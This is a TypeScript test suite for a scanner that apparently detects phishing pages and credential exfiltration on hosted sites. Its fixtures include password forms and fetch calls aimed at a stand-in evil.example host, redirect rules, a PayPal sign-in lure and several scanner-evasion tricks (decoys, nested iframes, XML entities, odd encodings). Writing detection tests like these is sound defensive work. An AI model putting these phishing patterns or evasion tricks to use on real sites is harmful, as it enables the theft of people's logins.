/** Ways to hide from a scan: behind names, behind scripts that change, behind what cannot be read. */
import { describe, expect, test } from 'vitest';
import { scan } from './corpus.ts';

const password = '<input type="password">';
const form = `<form action="https://evil.example/">${password}</form>`;
const sends = 'fetch("https://evil.example/")';

describe('pages and scripts are recognised by the type that edges serve', () => {
  test.each(['a.shtml', 'a.htm', 'a.HTML', 'a.xht', 'a.xml', 'a.xsl', 'a.svg', 'a.rss'])('%s', async (path) => {
    expect((await scan({ [path]: form.replace('d">', 'd"/>') })).kinds).toEqual([`${path} password_form`]);
  });

  test.each(['a.js', 'a.mjs', 'a.ecma'])('%s', async (path) => {
    expect((await scan({ [path]: `password;${sends}` })).kinds).toEqual([`${path} password_sent`]);
  });

  test('XML is read as XML: self-closing elements, prefixes and SVG scripts hide nothing', async () => {
    const prefixed = '<h:form action="https://evil.example/"><h:input type="password"/></h:form>';
    const svg = `<svg><foreignObject>${password.replace('>', '/>')}</foreignObject><script href="s.js"/></svg>`;
    const files = { 'a.xhtml': `<script src="x"/>${form}`, 'b.xml': prefixed, 'c.svg': svg, 's.js': sends };
    expect((await scan(files)).kinds).toEqual(['a.xhtml password_form', 'b.xml password_form', 'c.svg password_sent']);
  });

  test('other types are not read', async () => {
    expect((await scan({ 'a.txt': form, 'a.png': form, a: form })).reads).toEqual([]);
  });
});

describe('a harmless page is scanned again', () => {
  const page = `${password}<script src="a.js"></script>`;
  const first = { 'index.html': page, 'a.js': 'a()', 'b.js': sends };
  const flagged = ['index.html password_sent'];

  test('if a script of its version is new', async () => {
    expect((await scan({ ...first, 'a.js': sends }, { before: [first] })).kinds).toEqual(flagged);
  });

  test('if known bytes get another name', async () => {
    const moved = { 'index.html': page, 'a.js': sends, 'b.js': 'a()' };
    expect((await scan(moved, { before: [first] })).kinds).toEqual(flagged);
    const elsewhere = { ...first, 'in/index.html': page, 'in/a.js': sends };
    const before = [first, { 'in/index.html': '', 'in/a.js': sends }];
    expect((await scan(elsewhere, { before })).kinds).toEqual(['in/index.html password_sent']);
  });

  test('if page and script are known, but not together', async () => {
    const before = [first, { 'index.html': '', 'a.js': sends }];
    expect((await scan({ 'index.html': page, 'a.js': sends }, { before })).kinds).toEqual(flagged);
  });
});

test('a refresh is recognised with any number of digits', async () => {
  const to = 'https://evil.example/';
  for (const content of [
    `0;url=${to}`,
    `0 ; url = '${to}`,
    `${'0'.repeat(5_000)};${to}`,
    `0.${'9'.repeat(5_000)} ${to}`,
  ])
    expect((await scan({ 'a.html': `<meta http-equiv="refresh" content="${content}">` })).kinds).toEqual([
      'a.html redirect',
    ]);
});

test('missing bytes are unread, and the version stays unscanned', async () => {
  const { found, whole } = await scan({ 'a.html': null, 'b.js': null, 'c.html': form });
  expect(found.map(({ path, kind }) => `${path} ${kind}`).sort()).toEqual([
    'a.html unread',
    'b.js unread',
    'c.html password_form',
  ]);
  expect(whole).toBe(false);
});

test('a file that takes over a minute is unread; the next files are read', async () => {
  let ms = 0;
  // Each slice takes a tenth of a second here.
  const elapsed = () => {
    ms += 100;
    return ms;
  };
  const slow = '<br>'.repeat(3_000_000);
  const { kinds, whole } = await scan({ 'a.html': slow, 'b.html': form }, { elapsed });
  expect([kinds, whole]).toEqual([['a.html unread', 'b.html password_form'], false]);
});

test('files beyond ten minutes are unread', async () => {
  let ms = 0;
  const elapsed = () => {
    ms += 59_000;
    return ms;
  };
  const pages = Object.fromEntries(Array.from({ length: 30 }, (_, n) => [`${n}.html`, `<p>${n}`]));
  const { found, whole, reads } = await scan(pages, { elapsed });
  expect([found.map(({ kind }) => kind), whole]).toEqual([['unread'], false]);
  expect(reads.length).toBeLessThan(11);
});

test('a scan heartbeats at each slice of a page and a script', async () => {
  const text = 'a '.repeat(1_000_000);
  const beats = async (path: string) => (await scan({ [path]: text })).beats;
  expect(await beats('a.html')).toBeGreaterThan(text.length / 20_000);
  expect(await beats('a.js')).toBeGreaterThan(text.length / 65_536);
});

test('forms, addresses or scripts beyond the limits are reported as unread', async () => {
  const many = (one: string) => one.repeat(300);
  for (const page of [
    many('<form></form>'),
    `<form>${many('<button formaction="/x">x</button>')}`,
    many('<script src="a.js"></script>'),
  ])
    expect((await scan({ 'a.html': page })).kinds).toEqual(['a.html unread']);
});

describe('decoys hide nothing from a scan', () => {
  const own = (n: number) => `https://bakery.example/${n}`;
  const many = (count: number, one: (n: number) => string) =>
    Array.from({ length: count }, (_, n) => one(n)).join('\n');
  const evil = 'https://evil.example/';

  test.each([
    ['frames', `${'<iframe srcdoc="<p>x"></iframe>'.repeat(6)}<iframe srcdoc='${form}'></iframe>`, 'password_form'],
    ['frames in frames', nested(7), 'password_form'],
    [
      'more frames than are read',
      `${'<iframe srcdoc="<p>x"></iframe>'.repeat(60)}<iframe srcdoc='${form}'></iframe>`,
      'unread',
    ],
    ['addresses', `${password}<script>${many(300, (n) => `fetch("${own(n)}")`)};${sends}</script>`, 'password_sent'],
    [
      'ports',
      `${password}<script>${many(300, (n) => `fetch("https://bakery.example:${n + 1}")`)};${sends}</script>`,
      'unread',
    ],
    [
      'handlers',
      `<script>${many(120, (n) => `b.onclick = () => { location = "${own(n)}" }`)};location="${evil}"</script>`,
      'unread',
    ],
    [
      'names',
      `${password}<script>${many(600, (n) => `a${n}="${own(n)}"`)};z="${evil}";fetch(z)</script>`,
      'password_sent',
    ],
    ['names far away', `${password}<script>z="${evil}";${' '.repeat(600_000)};fetch(z)</script>`, 'password_sent'],
    ['headings', `${many(200, (n) => `<h2>We bake ${n} kinds</h2>`)}<h1>PayPal</h1>${password}`, 'brand_signin'],
    ['words of one heading', `<h1>${'bread '.repeat(100)}<b>Pay</b>&#80;al</h1>${password}`, 'brand_signin'],
    ['more headings than are kept', `${'<h2>bread</h2>'.repeat(60_000)}<h1>PayPal</h1>${password}`, 'unread'],
    ['an attribute', `<body onload='${' '.repeat(300_000)}location="${evil}"'>`, 'unread'],
    ['forms that are one', `${'<div><form id=a></div>'.repeat(300)}<form action="${evil}">${password}`, 'unread'],
  ])('%s', async (_what, page, kind) => {
    expect((await scan({ 'a.html': page })).kinds).toContain(`a.html ${kind}`);
  });

  test('in a script alone', async () => {
    const script = `password;${many(300, (n) => `fetch("https://bakery.example:${n + 1}")`)};${sends}`;
    expect((await scan({ 'a.js': script })).kinds).toEqual(['a.js unread']);
  });

  test('scripts of frames are scanned with their pages', async () => {
    const frame = (n: number) =>
      `<iframe srcdoc='${many(40, (m) => `<script src="${n}-${m}.js"></script>`)}'></iframe>`;
    const page = `${password}${frame(0)}${frame(1)}<iframe srcdoc='<script src="s.js"></script>'></iframe>`;
    expect((await scan({ 'a.html': page, 's.js': sends })).kinds).toEqual(['a.html unread']);
  });

  test('large honest files are not reported as hiding something', async () => {
    const script = many(400, (n) => `const u${n} = "https://api${n}.example/"; b.onclick = () => { location = u${n} }`);
    const page = `${many(500, (n) => `<h2>Chapter ${n} of the handbook</h2>`)}${many(20, () => '<iframe srcdoc="<p>x"></iframe>')}`;
    expect((await scan({ 'a.html': page, 'b.js': script.slice(0, 8_000) })).kinds).toEqual([]);
  });
});

describe('ambiguous XML is unread', () => {
  const entity = `<!ENTITY f "&#60;form action='https://evil.example/'>&#60;input type='password'/>&#60;/form>">`;
  const page = (before: string, body = '&f;') =>
    `${before}<html xmlns="http://www.w3.org/1999/xhtml"><body>${body}</body></html>`;

  test.each([
    ['entities of its own', page(`<!DOCTYPE html [${entity}]>`)],
    [
      'entities after a false end of the doctype',
      page(`<?xml version="1.0"?>\n<!DOCTYPE html SYSTEM ">" [ ${entity} ]>`),
    ],
    ['declared attributes', page(`<!DOCTYPE html [<!ATTLIST form action CDATA "https://evil.example/">]>`, '')],
    ['a stylesheet that makes another document', page('<?xml-stylesheet type="text/xsl" href="a.css"?>', '')],
    ['character names of another file', page('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "x">', 'https&colon;')],
    ['two bytes for each letter', Buffer.from(page('<?xml version="1.0"?>', form), 'utf16le')],
    ['an encoding of its own', page('<?xml version="1.0" encoding="iso-2022-jp"?>', '')],
    ['a declaration across a read boundary', `${' '.repeat(16_378)}<!ENTITY f "">`],
  ])('%s', async (_what, text) => {
    for (const path of ['a.xhtml', 'a.svg', 'a.xml', 'a.rss'])
      expect((await scan({ [path]: text })).kinds).toContain(`${path} unread`);
  });

  test('usual pictures, feeds and pages are read', async () => {
    const plain = `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg><title>a &amp; b &#169;</title></svg>`;
    const html = `<!DOCTYPE html><pre>&lt;!ENTITY</pre><!ENTITY x "y">&nbsp;`;
    expect((await scan({ 'a.svg': plain, 'a.xml': plain, 'a.html': html })).kinds).toEqual([]);
  });
});

/** A form in as many frames. */
function nested(depth: number): string {
  let inner = form;
  for (let n = 0; n < depth; n++)
    inner = `<iframe srcdoc="${inner.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`;
  return inner;
}

describe('redirects to other sites', () => {
  test.each([
    ['/* https://evil.example/:splat 302', true],
    ['/ https://evil.example/', true],
    ['/in https://evil.example/', true],
    ['/in.html https://other.sites.test/', true],
    ['/a /b\n/* http://bakery.sites.test.evil.example/', true],
    ['/* /new/:splat', false],
    ['/* https://bakery.example/:splat 301', false],
    ['/old 410', false],
    ['/logo.png https://pictures.example/logo.png', false],
  ])('%s: flagged is %s', async (rules, isFlagged) => {
    expect((await scan({ _redirects: rules })).kinds).toEqual(isFlagged ? ['_redirects redirect'] : []);
  });
});

test('two files with similar names have a flag each', async () => {
  const long = 'x'.repeat(450);
  const paths = [`${long}1.html`, `${long}2.html`, 'a\u202e.html', 'a\u202d.html', `${'y'.repeat(300)}.html`];
  const { found } = await scan(Object.fromEntries(paths.map((path) => [path, form])));
  const shown = found.map(({ path }) => path);
  expect(new Set(shown).size).toBe(paths.length);
  expect(shown[0]).toMatch(/^x{400}…[0-9a-f]{16}$/);
  expect(shown[4]).toBe(paths[4]);
});
